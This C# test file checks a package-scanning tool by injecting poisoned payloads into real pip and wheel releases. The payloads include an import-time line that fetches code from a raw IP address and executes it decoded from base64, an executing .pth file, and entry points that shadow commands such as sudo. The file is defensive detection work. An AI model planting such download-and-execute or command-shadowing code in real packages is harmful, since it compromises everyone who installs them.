using System.Text;
using TrustCheck.Artifacts.Analysis;
using TrustCheck.Artifacts.Capabilities;
using TrustCheck.Artifacts.Findings;
using TrustCheck.Artifacts.Surface;
using TrustCheck.TestKit.Artifacts;

namespace TrustCheck.Artifacts.Tests.Analysis;

/// <summary>
/// The compromised-maintainer signature: a real release rebuilt at test time with a payload and a RECORD that matches
/// (integrity passes), analysed against the real previous release. Each payload gives its finding at high or above;
/// the same release unpoisoned gives none.
/// </summary>
public sealed class CompromisedReleaseTests
{
    private const string Release = "wheel-0.43.0-py3-none-any.whl";
    private const string Previous = "wheel-0.40.0-py3-none-any.whl";
    private const string PipRelease = "pip-25.0.1-py3-none-any.whl";
    private const string PipPrevious = "pip-24.2-py3-none-any.whl";

    [Fact]
    public void MinerDownloadedAtImport_InPip_IsCriticalAndNew()
    {
        var poisoned = PoisonedBuild.Wheel(RealWheels.Bytes(PipRelease), (path, bytes) => path == "pip/__init__.py"
            ? [.. bytes, .. "\nimport urllib.request as _u, base64 as _b\nexec(_b.b64decode(_u.urlopen('http://45.61.136.2/x').read()))\n"u8]
            : bytes);

        var findings = Analyze(PipRelease, poisoned, PipPrevious);

        Assert.DoesNotContain(findings, f => f.Code.StartsWith("TC101", StringComparison.Ordinal));
        var exec = Assert.Single(findings, f => f.Code == CapabilityCodes.DecodedExecution);
        Assert.Equal(ArtifactSeverity.Critical, exec.Severity);
        Assert.Equal(("pip/__init__.py", "import-time", "new"), (exec.Evidence["member"], exec.Evidence["location"], exec.Evidence["novelty"]));
        Assert.Contains(findings, f => f.Code == CapabilityCodes.DownloadThenExecute && f.Severity == ArtifactSeverity.Critical);
        Assert.Contains(findings, f => f.Code == CapabilityCodes.RawIpUrl && f.Severity == ArtifactSeverity.High);
    }

    [Fact]
    public void PthRunningDecodedCode_IsNewAndCritical()
    {
        var poisoned = PoisonedBuild.Wheel(RealWheels.Bytes(Release), (_, bytes) => bytes,
            ("wheel_init.pth", "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))\n"u8.ToArray()));

        var findings = Analyze(Release, poisoned, Previous);

        Assert.Equal(ArtifactSeverity.High, Assert.Single(findings, f => f.Code == SurfaceCodes.ExecutingPth).Severity);
        var exec = Assert.Single(findings, f => f.Code == CapabilityCodes.DecodedExecution);
        Assert.Equal((ArtifactSeverity.Critical, "pth"), (exec.Severity, exec.Evidence["location"]));
    }

    [Fact]
    public void PathOnlyPth_IsNotAnExecutionSurface()
    {
        var poisoned = PoisonedBuild.Wheel(RealWheels.Bytes(Release), (_, bytes) => bytes, ("wheel_paths.pth", "../shared\n# import os\n"u8.ToArray()));

        Assert.DoesNotContain(Analyze(Release, poisoned, Previous), f => f.Code == SurfaceCodes.ExecutingPth);
    }

    [Theory]
    [InlineData("ls")]
    [InlineData("python3")]
    [InlineData("pip")]
    [InlineData("sudo")]
    public void EntryPointShadowingACommonCommand_IsHigh(string command)
    {
        var poisoned = PoisonedBuild.Wheel(RealWheels.Bytes(Release), (path, bytes) => path.EndsWith("entry_points.txt", StringComparison.Ordinal)
            ? Encoding.UTF8.GetBytes(Encoding.UTF8.GetString(bytes).Replace("[console_scripts]\n", $"[console_scripts]\n{command} = wheel.cli:main\n", StringComparison.Ordinal))
            : bytes);

        var finding = Assert.Single(Analyze(Release, poisoned, Previous), f => f.Code == SurfaceCodes.ShadowingEntryPoint);

        Assert.True(finding.Severity >= ArtifactSeverity.High);
        Assert.Contains(command, finding.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void OwnCommandsAndNewHarmlessEntryPoints_AreNotShadowing()
    {
        var poisoned = PoisonedBuild.Wheel(RealWheels.Bytes(Release), (path, bytes) => path.EndsWith("entry_points.txt", StringComparison.Ordinal)
            ? Encoding.UTF8.GetBytes(Encoding.UTF8.GetString(bytes).Replace("[console_scripts]\n", "[console_scripts]\nwheel3 = wheel.cli:main\nwheel-tool = wheel.cli:main\n", StringComparison.Ordinal))
            : bytes);

        var findings = Analyze(Release, poisoned, Previous);

        Assert.DoesNotContain(findings, f => f.Code == SurfaceCodes.ShadowingEntryPoint);
        Assert.Equal(2, findings.Count(f => f.Code == SurfaceCodes.NewEntryPoint && f.Severity == ArtifactSeverity.Low));
    }

    [Theory]
    [InlineData("ELF")]
    [InlineData("PE")]
    [InlineData("Mach-O")]
    public void NativeBlobInAPureWheel_IsNewAndHigh(string format)
    {
        var poisoned = PoisonedBuild.Wheel(RealWheels.Bytes(Release), (_, bytes) => bytes, ("wheel/_speedups.bin", Native(format)));

        var finding = Assert.Single(Analyze(Release, poisoned, Previous), f => f.Code == SurfaceCodes.NativeCode);

        Assert.Equal(ArtifactSeverity.High, finding.Severity);
        Assert.Contains(format, finding.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void JavaClassAndTextStartingWithMz_AreNotNativeCode()
    {
        byte[] java = [0xCA, 0xFE, 0xBA, 0xBE, 0x00, 0x00, 0x00, 0x41, .. new byte[64]];
        var poisoned = PoisonedBuild.Wheel(RealWheels.Bytes(Release), (_, bytes) => bytes, ("wheel/A.class", java), ("wheel/notes.txt", Encoding.ASCII.GetBytes("MZ is how this note starts, " + new string('x', 100))));

        Assert.DoesNotContain(Analyze(Release, poisoned, Previous), f => f.Code == SurfaceCodes.NativeCode);
    }

    [Fact]
    public void BytecodeWithoutSource_IsNewAndHigh()
    {
        var poisoned = PoisonedBuild.Wheel(RealWheels.Bytes(Release), (_, bytes) => bytes, ("wheel/__pycache__/_hook.cpython-311.pyc", [0xA7, 0x0D, 0x0D, 0x0A, 0, 0, 0, 0]));

        var finding = Assert.Single(Analyze(Release, poisoned, Previous), f => f.Code == SurfaceCodes.OrphanBytecode);

        Assert.Equal(ArtifactSeverity.High, finding.Severity);
    }

    [Fact]
    public void BytecodeBesideItsSource_IsNotOrphan()
    {
        var poisoned = PoisonedBuild.Wheel(RealWheels.Bytes(Release), (_, bytes) => bytes, ("wheel/__pycache__/cli.cpython-311.pyc", [0xA7, 0x0D, 0x0D, 0x0A]), ("wheel/cli.py", "X = 1\n"u8.ToArray()));

        Assert.DoesNotContain(Analyze(Release, poisoned, Previous), f => f.Code == SurfaceCodes.OrphanBytecode);
    }

    [Fact]
    public void NetworkUseInAProjectThatNeverHadIt_IsANewCapability()
    {
        // wheel 0.40.0 starts processes and loads native libraries (its vendored packaging does) but never uses the network.
        var poisoned = PoisonedBuild.Wheel(RealWheels.Bytes(Release), (path, bytes) => path == "wheel/__init__.py"
            ? [.. bytes, .. "\nimport urllib.request\nurllib.request.urlopen('https://telemetry.example/beacon')\n"u8]
            : bytes);

        var finding = Assert.Single(Analyze(Release, poisoned, Previous), f => f.Code == CapabilityCodes.NewCapability);

        Assert.Equal(ArtifactSeverity.High, finding.Severity);
        Assert.Contains("network access", finding.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void ProcessStartNewToAModuleOfAProjectThatAlreadyStartedProcesses_IsLowInsideAFunctionAndHighAtImport()
    {
        var inFunction = PoisonedBuild.Wheel(RealWheels.Bytes(Release), (path, bytes) => path == "wheel/cli/__init__.py"
            ? [.. bytes, .. "\ndef _git():\n    import subprocess\n    return subprocess.run(['git', 'describe'])\n"u8]
            : bytes);
        var atImport = PoisonedBuild.Wheel(RealWheels.Bytes(Release), (path, bytes) => path == "wheel/cli/__init__.py"
            ? [.. bytes, .. "\nimport subprocess\nsubprocess.run(['git', 'describe'])\n"u8]
            : bytes);

        var low = Assert.Single(Analyze(Release, inFunction, Previous), f => f.Code == CapabilityCodes.NewCapability);
        var high = Assert.Single(Analyze(Release, atImport, Previous), f => f.Code == CapabilityCodes.NewCapability);

        Assert.Equal((ArtifactSeverity.Low, "had-it"), (low.Severity, low.Evidence["project"]));
        Assert.Equal(ArtifactSeverity.High, high.Severity);
    }

    [Fact]
    public void NetworkUseInAFunctionOfAProjectThatAlwaysHadIt_IsAtMostLow()
    {
        var poisoned = PoisonedBuild.Wheel(RealWheels.Bytes(PipRelease), (path, bytes) => path == "pip/_internal/utils/misc.py"
            ? [.. bytes, .. "\ndef _probe():\n    import urllib.request\n    return urllib.request.urlopen('https://pypi.org/simple/')\n"u8]
            : bytes);

        var findings = Analyze(PipRelease, poisoned, PipPrevious);

        Assert.DoesNotContain(findings, f => f.Severity >= ArtifactSeverity.Medium);
        Assert.Contains(findings, f => f.Code == CapabilityCodes.NewCapability && f.Evidence["member"] == "pip/_internal/utils/misc.py" && f.Severity == ArtifactSeverity.Low);
    }

    [Fact]
    public void TheSamePayloadWithoutABaseline_IsStillCriticalButNotCalledNew()
    {
        var poisoned = PoisonedBuild.Wheel(RealWheels.Bytes(Release), (path, bytes) => path == "wheel/__init__.py"
            ? [.. bytes, .. "\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"u8]
            : bytes);

        var analysis = ArtifactAnalyzer.Analyze(new ArtifactInput(Release, poisoned));

        var exec = Assert.Single(analysis.Findings, f => f.Code == CapabilityCodes.DecodedExecution);
        Assert.Equal((ArtifactSeverity.Critical, "no-baseline"), (exec.Severity, exec.Evidence["novelty"]));
        Assert.DoesNotContain(analysis.Findings, f => f.Code == CapabilityCodes.NewCapability);
    }

    private static IReadOnlyList<ArtifactFinding> Analyze(string filename, byte[] poisoned, string previous) =>
        ArtifactAnalyzer.Analyze(new ArtifactInput(filename, poisoned), RealWheels.Input(previous)).Findings;

    private static byte[] Native(string format)
    {
        var bytes = new byte[256];
        switch (format)
        {
            case "ELF":
                "\u007fELF"u8.CopyTo(bytes);
                break;
            case "PE":
                bytes[0] = (byte)'M';
                bytes[1] = (byte)'Z';
                bytes[0x3C] = 0x80;
                "PE\0\0"u8.CopyTo(bytes.AsSpan(0x80));
                break;
            default:
                bytes[0] = 0xCF;
                bytes[1] = 0xFA;
                bytes[2] = 0xED;
                bytes[3] = 0xFE;
                break;
        }

        return bytes;
    }
}
